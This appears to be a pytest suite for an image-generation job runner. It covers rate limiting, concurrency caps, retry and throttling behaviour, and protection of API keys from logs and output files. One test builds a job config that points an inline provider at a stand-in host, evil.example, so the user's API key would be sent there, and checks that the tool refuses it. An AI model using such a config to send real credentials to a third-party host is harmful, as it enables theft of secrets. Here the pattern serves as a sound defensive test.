"""No faster than allowed, and no key where it does not belong."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest
from commands import check_whole

from pipeline.core.simulation import FaultRule, Simulation

if TYPE_CHECKING:
    from commands import Desk, Serving

KEY = "sk-made-up-4f1d0c2b9a8e7765"
INSTANT = Simulation(latency_s=0, image_size="64x64")


def test_requests_leave_no_faster_than_the_job_says(desk: Desk, provider: Serving) -> None:
    with provider(INSTANT) as there:
        more = "limits: {requests_per_minute: 600}\n"
        desk.job([f"p{n}" for n in range(12)], base_url=there.base_url, more=more)
        told = desk.run("run", "job.yaml", "--json")
        assert there.bill()["requests"] == 12
    assert told.summary["elapsed_s"] >= 11 * 0.1 - 0.06


def test_the_tighter_limit_of_job_and_profile_holds(desk: Desk, provider: Serving) -> None:
    slow = Simulation(latency_s=0.05, latency_p99_s=0.1, image_size="64x64")
    for job, profile in ((3, 8), (8, 3)):
        with provider(slow) as there:
            more = f"limits: {{concurrency: {job}}}\n"
            desk.job([f"{job} p{n}" for n in range(20)], base_url=there.base_url, more=more)
            desk.provider(there.base_url, f"limits: {{concurrency: {profile}}}\n")
            assert desk.run("run", "job.yaml").code == 0
            assert there.bill()["in_flight_peak"] == 3


def test_one_retry_after_holds_everyone_back_and_costs_no_attempt(
    desk: Desk, provider: Serving
) -> None:
    rules = (FaultRule(fault="throttled", request=3), FaultRule(fault="throttled", request=4))
    throttling = Simulation(latency_s=0.02, image_size="64x64", retry_after_s=1, rules=rules)
    with provider(throttling) as there:
        more = "limits: {concurrency: 2}\nretry: {attempts: 1}\n"
        desk.job([f"p{n}" for n in range(8)], base_url=there.base_url, more=more)
        began = time.monotonic()
        told = desk.run("run", "job.yaml", "--json")
        assert time.monotonic() - began >= 1
        throttled = there.bill()["by_status"]["429"]
    assert (told.code, told.summary["made"]) == (0, 8)
    assert 1 <= throttled <= 2  # nothing but what was in flight beside it
    waits = [one["wait_s"] for one in told.objects if one["event"] == "waiting"]
    assert waits == [1.0] * throttled


def test_without_adaptive_a_429_costs_an_attempt(desk: Desk, provider: Serving) -> None:
    always = Simulation(latency_s=0, retry_after_s=0, rules=(FaultRule(fault="throttled"),))
    with provider(always) as there:
        more = "limits: {adaptive: false}\nretry: {attempts: 2, max_wait: 0.01}\n"
        desk.job(["a"], base_url=there.base_url, more=more)
        told = desk.run("run", "job.yaml", "--json")
        assert there.bill()["requests"] == 2
    assert told.summary["failed_by_why"] == {"throttled": 1}


def test_a_provider_with_limits_and_faults_is_served_out(desk: Desk, provider: Serving) -> None:
    unwell = Simulation(
        latency_s=0.01,
        image_size="64x64",
        concurrency=6,
        faults={"server_error": 0.05, "text_only": 0.05, "cut": 0.05},
    )
    with provider(unwell) as there:
        more = "limits: {concurrency: 6}\nretry: {attempts: 8, no_image: 8, lost: 8, max_wait: 0.1}"
        desk.job([f"p{n}" for n in range(120)], base_url=there.base_url, more=more)
        told = desk.run("run", "job.yaml", "--json")
        assert there.bill()["by_fault"]
    assert (told.code, told.summary["made"]) == (0, 120)
    assert told.summary["retries"] == sum(told.summary["retries_by_why"].values()) > 0
    assert told.summary["requests"] == 120 + told.summary["retries"]
    check_whole(desk.out)


def test_a_missing_key_is_named_before_anything_is_sent_or_written(
    desk: Desk, provider: Serving
) -> None:
    with provider(INSTANT) as there:
        desk.job(["a"], base_url=there.base_url)
        desk.provider(there.base_url, "api_key_env: MY_PICTURES_KEY\n")
        for environ in ({}, {"MY_PICTURES_KEY": ""}):
            desk.environ(**environ)
            told = desk.run("run", "job.yaml")
            assert told.code == 77
            assert "export MY_PICTURES_KEY=" in told.err
            assert not desk.out.exists()
        assert there.bill()["requests"] == 0
    knox = desk.run("run", "job.yaml", "--provider", "knox")
    assert knox.code == 77
    assert "export KNOXCHAT_API_KEY=" in knox.err
    assert not desk.out.exists()


def test_a_refused_key_spends_what_is_in_flight_and_settles_nothing(
    desk: Desk, provider: Serving
) -> None:
    with provider(Simulation(latency_s=0.02, image_size="64x64", api_key=KEY)) as there:
        desk.job(
            [f"p{n}" for n in range(30)], base_url=there.base_url, more="limits: {concurrency: 4}\n"
        )
        desk.provider(there.base_url, "api_key_env: MY_PICTURES_KEY\n")
        desk.environ(MY_PICTURES_KEY="sk-of-somebody-else-1234567890")
        told = desk.run("run", "job.yaml", "--json")
        assert 1 <= there.bill()["requests"] <= 4
        assert told.code == 77
        assert told.summary["owed"] == 30
        assert not desk.lines
        desk.environ(MY_PICTURES_KEY=KEY)
        assert desk.run("run", "job.yaml").code == 0
        assert there.bill()["billed"] == 30


def test_no_key_is_needed_where_nothing_is_left_to_send(desk: Desk, provider: Serving) -> None:
    with provider(INSTANT) as there:
        desk.job(["a"], base_url=there.base_url)
        desk.run("run", "job.yaml")
        desk.provider(there.base_url, "api_key_env: MY_PICTURES_KEY\n")
        assert desk.run("run", "job.yaml").code == 0


def test_the_key_is_written_nowhere_and_said_nowhere(desk: Desk, provider: Serving) -> None:
    """Not even where a prompt, the provider's complaint or a profile's file holds it."""
    faults = Simulation(latency_s=0, image_size="64x64", api_key=KEY, faults={"bad_request": 0.5})
    with provider(faults) as there:
        desk.write("key.txt", f"{KEY}\n")
        desk.job([f"p{n}" for n in range(6)], base_url=there.base_url)
        for how in ("api_key_env: MY_PICTURES_KEY\n", "api_key_file: key.txt\n"):
            desk.provider(there.base_url, how)
            desk.environ(MY_PICTURES_KEY=KEY)
            said = [
                desk.run(*words)
                for words in (
                    ("run", "job.yaml", "-v"),
                    ("rerun", "out", "--json", "-v"),
                    ("plan", "job.yaml", "-v"),
                    ("status", "out"),
                )
            ]
            assert said[0].code in {0, 3}
            assert all(KEY not in one.out + one.err for one in said)
    assert there.bill()["by_status"].get("401") is None
    files = [path for path in desk.out.rglob("*") if path.is_file()]
    assert len(files) > 6
    assert not [path for path in files if KEY.encode() in path.read_bytes()]


@pytest.mark.parametrize("place", ["inline", "inline by flag"])
def test_a_job_cannot_send_a_key_to_a_host_of_its_choice(desk: Desk, place: str) -> None:
    desk.environ(KNOXCHAT_API_KEY=KEY)
    inline = "{base_url: https://evil.example/v1, api_key_env: KNOXCHAT_API_KEY, model: m}"
    if place == "inline":
        desk.write("job.yaml", f"provider: {inline}\nprompts: [a]\n")
        told = desk.run("run", "job.yaml")
    else:
        desk.write("job.yaml", "prompts: [a]\n")
        told = desk.run("run", "job.yaml", "--set", f"provider={inline}")
    assert told.code == 78
    assert "api_key_env" in told.err
    assert KEY not in told.err
    assert [p.name for p in desk.folder.iterdir()] == ["job.yaml"]


def test_an_inline_profile_may_send_a_key_to_this_machine(desk: Desk, provider: Serving) -> None:
    with provider(Simulation(latency_s=0, image_size="64x64", api_key=KEY)) as there:
        desk.environ(MY_PICTURES_KEY=KEY)
        inline = f"{{base_url: '{there.base_url}', api_key_env: MY_PICTURES_KEY, model: m}}"
        desk.write("job.yaml", f"provider: {inline}\nprompts: [a]\noutput: {{dir: out}}\n")
        assert desk.run("run", "job.yaml").code == 0
    assert KEY not in (desk.out / "job.yaml").read_text()


def test_a_proxy_of_the_environment_is_not_asked_for_this_machine(
    desk: Desk, provider: Serving
) -> None:
    nowhere = "http://127.0.0.1:1"
    desk.environ(http_proxy=nowhere, HTTP_PROXY=nowhere, https_proxy=nowhere, no_proxy="")
    with provider(INSTANT) as there:
        desk.job(["a"], base_url=there.base_url)
        assert desk.run("run", "job.yaml").code == 0
    desk.job(["a"], more="name: simulated\n")
    assert desk.run("run", "job.yaml", "--out", "simulated").code == 0
